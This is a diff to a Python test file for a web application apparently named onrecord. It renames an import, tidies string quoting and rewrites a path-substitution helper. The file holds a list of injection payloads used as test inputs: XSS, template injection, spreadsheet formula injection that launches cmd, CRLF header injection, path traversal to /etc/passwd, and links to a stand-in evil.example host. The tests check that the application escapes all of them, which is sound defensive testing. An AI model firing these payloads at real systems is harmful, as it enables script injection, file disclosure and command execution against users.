@@ -10,7 +10,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from onrecord.exporting.annotations import annotations
+from onrecord.exporting.annotations import annotation_page
 from onrecord.exporting.citation import bibtex, csl, key
 from onrecord.showing.api.sheets import defused, saved
 from onrecord.showing.templating import environment
@@ -26,12 +26,12 @@ ATTACKS = [
     "<svg><script>alert(1)</script></svg>", "<a href=javascript:alert(1)>go</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
     "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<form action=//evil.example><input name=csrf></form>",
     "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example/x.css'</style>", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "</textarea><script>alert(1)</script>",
+    "<style>@import '//evil.example/x.css'</style>", '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) x='", "</textarea><script>alert(1)</script>",
     "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--<script>alert(1)//-->", "]]><script>alert(1)</script>",
     "{{ 7*7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
-    "=HYPERLINK(\"http://evil.example\",\"go\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\uff1d1+1",
+    '=HYPERLINK("http://evil.example","go")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\uff1d1+1",
     "hx-get=/logout hx-trigger=load", "<div hx-get='/x' hx-trigger='load' hx-on:load='alert(1)'></div>", "\u202egnihtyna\u202c", "\u2028alert(1)\u2029",
-    "}\n\\input{/etc/passwd}\n@article{x,", "\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>", "../../etc/passwd", "\"; filename=\"evil.html",
+    "}\n\\input{/etc/passwd}\n@article{x,", "\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>", "../../etc/passwd", '"; filename="evil.html',
 ]  # fmt: skip
 _ON = re.compile(r"on[a-z]+", re.IGNORECASE)
 
@@ -95,7 +95,8 @@ def test_nothing_of_a_report_is_live_on_any_page(desk: Client, store: SqlStore, 
             path = pattern
             for hole in holes:
                 values = names.get(hole) or attacked
-                path = re.sub(r"\{" + hole + r"(?::\w+)?\}", lambda _found, value=values[number % len(values)]: value, path, count=1)
+                before, _, after = re.split(r"(\{" + hole + r"(?::\w+)?\})", path, maxsplit=1)
+                path = before + values[number % len(values)] + after
             answer = desk.get(path)
             assert answer.status < 500, path
             if "html" in answer.headers.get("content-type", ""):
@@ -184,7 +185,7 @@ def test_citations_cannot_be_broken_out_of(attack: str) -> None:
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_annotations_quote_the_words_as_they_are(attack: str) -> None:
     record = attacking(attack).record
-    for item in annotations(record)["items"]:
+    for item in annotation_page(record)["items"]:
         position, quote = item["target"]["selector"]
         assert record.report.text[position["start"] : position["end"]] == quote["exact"]
         assert record.report.text[: position["start"]].endswith(quote["prefix"])
@@ -194,7 +195,7 @@ def test_annotations_quote_the_words_as_they_are(attack: str) -> None:
 def test_templates_escape_everything_whatever_they_are_called() -> None:
     made = environment()
     assert made.autoescape is True
-    assert made.from_string("{{ x }} {{ x|tojson }}").render(x="<b>'\"&") == "&lt;b&gt;&#39;&#34;&amp; \"\\u003cb\\u003e\\u0027\\\"\\u0026\""
+    assert made.from_string("{{ x }} {{ x|tojson }}").render(x="<b>'\"&") == '&lt;b&gt;&#39;&#34;&amp; "\\u003cb\\u003e\\u0027\\"\\u0026"'
     for name in made.list_templates():
         source = made.loader.get_source(made, name)[0] if made.loader else ""
         assert "|safe" not in re.sub(r"\s", "", source) and "autoescapefalse" not in re.sub(r"\s", "", source), name
